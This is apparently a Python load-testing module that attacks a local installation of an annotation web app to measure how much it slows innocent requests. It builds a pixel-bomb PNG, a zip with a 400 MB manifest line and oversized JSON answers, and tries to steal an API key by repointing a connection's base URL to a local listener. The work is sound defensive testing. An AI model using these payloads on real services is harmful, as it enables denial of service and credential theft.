"""Attack an installation of one process, and print how long an innocent request takes meanwhile.

    .venv/bin/python -m tests.load.attacks

Needs nothing but a free port: an embedded database, the web server with eight threads and a worker.
Each attack is what one signed-in person can send: hostile answers to be checked and handed in,
small pictures that unpack to very many pixels, a manifest with one line of 400 MB. The theft of a
key is tried against a listener of our own.
"""

import io
import os
import socket
import statistics
import subprocess
import threading
import time
import uuid
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, suppress
from functools import partial
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import httpx
from PIL import Image

from tests.e2e.installation import worker
from tests.load.serving import free_port, served

KEY = "only-for-measuring-0123456789-0123456789-0123456789-0123456789"
SECONDS = 20.0
AT_ONCE = 8


def set_up(listener: int) -> dict[str, Any]:
    """Make tables, people, a project with tasks in hand and a connection; return their ids."""
    import django

    django.setup()
    from django.core.management import call_command

    from annotate.people.services import create_token, create_user
    from annotate.projects import services as projects
    from annotate.projects.models import Membership, Role
    from annotate.seeding.services import connections
    from annotate.workflow import services as workflow
    from tests.conftest import add_samples

    call_command("migrate", verbosity=0)
    names = ("owner", "lead", "hostile", "innocent")
    people = {
        name: create_user(
            username=name, password=uuid.uuid4().hex, display_name=name, may_create_projects=True
        )
        for name in names
    }
    project = projects.create_project(
        name="Attacked",
        description="",
        recipe_name="iiw",
        changes={},
        creator=people["owner"],
        guidelines_required=False,
    )
    roles = {"lead": Role.LEAD, "hostile": Role.ANNOTATOR, "innocent": Role.ANNOTATOR}
    for name, role in roles.items():
        Membership.objects.create(project=project, user=people[name], role=role)
    add_samples(project, 3)
    held = {
        name: workflow.claim(project=project, annotator=people[name]).assignment
        for name in ("hostile", "innocent")
    }
    connection = connections.make(
        project=project,
        actor=people["owner"],
        name="Hosted",
        backend="openai",
        settings={"base_url": "https://api.example.org/v1", "model": "m"},
        secrets={"api_key": "sk-stolen"},
    )
    return {
        "tokens": {
            name: create_token(user=user, name="attack", expires_in_days=1)[1]
            for name, user in people.items()
        },
        "project": project.pk,
        "held": {name: each.pk for name, each in held.items() if each is not None},
        "connection": connection.pk,
        "listener": listener,
    }


class Client:
    """One person's requests; what is answered is counted by status."""

    def __init__(self, port: int, token: str) -> None:
        self._base = f"http://127.0.0.1:{port}/api/v1"
        self._headers = {"Authorization": f"Token {token}"}
        self.statuses: Counter[int] = Counter()

    def ask(self, method: str, path: str, **more: Any) -> httpx.Response:
        """Send one request on a connection of its own."""
        answer = httpx.request(
            method, f"{self._base}/{path}", headers=self._headers, timeout=300, **more
        )
        self.statuses[answer.status_code] += 1
        return answer


def hostile_answer() -> dict[str, Any]:
    """200 objects of 4,000 characters, each of which is a reading of its own."""
    box = {"x": 10, "y": 10, "width": 50, "height": 80}
    return {"objects": [_thing(place, box) for place in range(200)]}


def _thing(place: int, box: dict[str, int]) -> dict[str, Any]:
    text = "man " * 1_000
    return {"id": f"o{place}", "label": "a", "box": box, "description": text, "derived_from": []}


def largest_answer() -> dict[str, Any]:
    """As much of it as is read at all."""
    answer = hostile_answer()
    return {"objects": answer["objects"][:48]}


def bomb() -> bytes:
    """A hundred million pixels in a third of a megabyte."""
    out = io.BytesIO()
    Image.new("RGB", (10_000, 10_000)).save(out, "PNG")
    return out.getvalue()


def archive() -> bytes:
    """A zip archive whose manifest has one line of 400 MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        with packed.open("manifest.jsonl", "w", force_zip64=True) as manifest:
            manifest.write(b'{"file": "')
            for _ in range(400):
                manifest.write(b"a" * 1_000_000)
            manifest.write(b'"}\n')
        # So that it is no bomb by its ratio.
        packed.writestr("noise.bin", os.urandom(5_000_000))
    return out.getvalue()


@contextmanager
def watched(innocent: Client, held: int, name: str) -> Iterator[None]:
    """Time a check and a draft's reading of somebody else as long as the block lasts."""
    times: list[float] = []
    over = threading.Event()

    def ask() -> None:
        while not over.is_set():
            started = time.monotonic()
            innocent.ask("POST", f"assignments/{held}/check", json={"answer": {"objects": []}})
            innocent.ask("GET", "work")
            times.append((time.monotonic() - started) / 2)
            over.wait(0.1)

    thread = threading.Thread(target=ask)
    thread.start()
    started = time.monotonic()
    try:
        yield
    finally:
        over.set()
        thread.join()
    ordered = sorted(times)
    print(
        f"{name:<34} {time.monotonic() - started:6.1f} s; an innocent request:"
        f" median {statistics.median(ordered):.3f} s, worst {ordered[-1]:.3f} s of {len(ordered)}"
    )


def repeat(act: Callable[[], object]) -> None:
    """Do something over and over from several threads, for a while."""
    ends = time.monotonic() + SECONDS

    def again() -> None:
        while time.monotonic() < ends:
            with suppress(httpx.HTTPError):
                act()

    with ThreadPoolExecutor(AT_ONCE) as pool:
        for done in [pool.submit(again) for _ in range(AT_ONCE)]:
            done.result()


def attack(port: int, made: dict[str, Any]) -> None:
    """Run every attack and print what became of it."""
    innocent = Client(port, made["tokens"]["innocent"])
    hostile, lead = (Client(port, made["tokens"][name]) for name in ("hostile", "lead"))
    others = made["held"]["innocent"]
    innocent.ask("POST", f"assignments/{others}/check", json={"answer": hostile_answer()})
    with watched(innocent, others, "nothing"):
        time.sleep(5)
    answers(hostile, innocent, made)
    pictures(lead, innocent, made)
    with watched(innocent, others, "a line of 400 MB in a manifest"):
        import_line(lead, made["project"])
    steal(lead, made)


def answers(hostile: Client, innocent: Client, made: dict[str, Any]) -> None:
    """Have hostile answers checked, and handed in so that they are refused after the reading."""
    own, others = made["held"]["hostile"], made["held"]["innocent"]
    largest = largest_answer()
    wrong = {"objects": [*largest["objects"], {}]}
    for name, act, answer in (
        ("check of 800,000 characters", "check", hostile_answer()),
        ("check of 192,000 characters", "check", largest),
        ("submission of 192,000 characters", "submit", wrong),
    ):
        # What one person may have read is counted by the minute.
        time.sleep(60 - time.time() % 60)
        hostile.statuses.clear()
        body: dict[str, Any] = {"answer": answer}
        if act == "submit":
            body |= {"key": str(uuid.uuid4()), "active_seconds": 1}
        with watched(innocent, others, name):
            repeat(partial(hostile.ask, "POST", f"assignments/{own}/{act}", json=body))
        print(f"    answered {dict(hostile.statuses)}")


def pictures(lead: Client, innocent: Client, made: dict[str, Any]) -> None:
    """Upload small files of very many pixels."""
    data = bomb()
    files = [("files", (f"{place}.png", data)) for place in range(50)]
    with watched(innocent, made["held"]["innocent"], "uploads of 50 pictures of 100 Mpx"):
        repeat(partial(lead.ask, "POST", f"projects/{made['project']}/uploads", files=files))
    print(f"    answered {dict(lead.statuses)}")


def import_line(lead: Client, project: int) -> None:
    """Import the archive, and wait until the worker is through."""
    files = {"file": ("m.zip", archive())}
    started = time.monotonic()
    sent = lead.ask("POST", f"projects/{project}/imports", files=files).json()
    while not _is_over(lead, project, sent["id"]):
        time.sleep(0.2)
    print(f"    sent and read in {time.monotonic() - started:.1f} s")


def _is_over(lead: Client, project: int, import_id: int) -> bool:
    imports = lead.ask("GET", f"projects/{project}/imports").json()
    (found,) = [each for each in imports if each["id"] == import_id]
    return str(found["job"]["state"]) in ("succeeded", "failed", "cancelled")


def steal(lead: Client, made: dict[str, Any]) -> None:
    """Lead the connection to a listener of our own, and say what that heard."""
    heard = b""
    with socket.create_server(("127.0.0.1", made["listener"])) as listener:
        listener.settimeout(3)
        connection = f"projects/{made['project']}/connections/{made['connection']}"
        url = f"http://127.0.0.1:{made['listener']}/v1"
        changed = lead.ask("PATCH", connection, json={"settings": {"base_url": url}})
        asking = threading.Thread(target=lambda: lead.ask("POST", f"{connection}/health"))
        asking.start()
        with suppress(TimeoutError):
            accepted, _ = listener.accept()
            with accepted:
                heard = accepted.recv(65_536)
        asking.join()
    verdict = "STOLEN" if b"sk-stolen" in heard else "not told"
    print(f"theft of a key: the change is answered {changed.status_code}, the key was {verdict}")


def main() -> None:
    listener = free_port()
    with TemporaryDirectory(prefix="annotate-attacked-") as name:
        folder = Path(name)
        variables = {
            "SECRET_KEY": KEY,
            "ALLOWED_HOSTS": "127.0.0.1,testserver",
            "DATA_DIR": name,
            "DATABASE_URL": f"sqlite:///{folder / 'annotate.sqlite3'}",
            "DJANGO_SETTINGS_MODULE": "annotate.config.settings",
            "FETCH_PRIVATE_HOSTS": f"127.0.0.1:{listener}",
            "LOG_LEVEL": "ERROR",
            "WEB_PROCESSES": "1",
        }
        os.environ.update(variables)
        made = set_up(listener)
        working = subprocess.Popen(worker(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            url, settings = variables["DATABASE_URL"], variables["DJANGO_SETTINGS_MODULE"]
            application = "annotate.config.wsgi"
            with served(url, settings=settings, application=application, data=folder) as (port, _):
                attack(port, made)
        finally:
            working.terminate()
            working.wait(20)


if __name__ == "__main__":
    main()
